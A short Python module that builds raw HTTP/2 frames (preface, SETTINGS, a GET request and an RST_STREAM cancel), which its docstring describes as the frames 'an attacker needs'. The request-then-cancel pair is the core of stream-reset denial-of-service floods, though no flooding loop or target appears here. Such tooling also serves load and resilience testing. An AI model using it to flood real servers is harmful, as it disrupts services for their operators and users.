# SPDX-License-Identifier: Apache-2.0
"""The few frames of HTTP/2 (RFC 9113) that an attacker needs."""

_HEADERS, _RST_STREAM, _SETTINGS = 1, 3, 4
_END_STREAM_AND_HEADERS = 0x05
_CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def settings() -> bytes:
    """Returns an empty SETTINGS frame."""
    return _frame(_SETTINGS, 0, 0, b"")


def request(stream: int, authority: str, path: str) -> bytes:
    """Returns a GET request without a body, its fields literal (RFC 7541 section 6.2.2)."""
    fields = b"\x82\x87" + b"\x04" + _text(path) + b"\x01" + _text(authority)
    return _frame(_HEADERS, _END_STREAM_AND_HEADERS, stream, fields)


def reset(stream: int) -> bytes:
    """Returns a RST_STREAM frame with the code CANCEL."""
    return _frame(_RST_STREAM, 0, stream, _CANCEL.to_bytes(4))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def _text(value: str) -> bytes:
    encoded = value.encode()
    if len(encoded) > 126:
        raise ValueError("longer than one byte can say")
    return bytes([len(encoded)]) + encoded
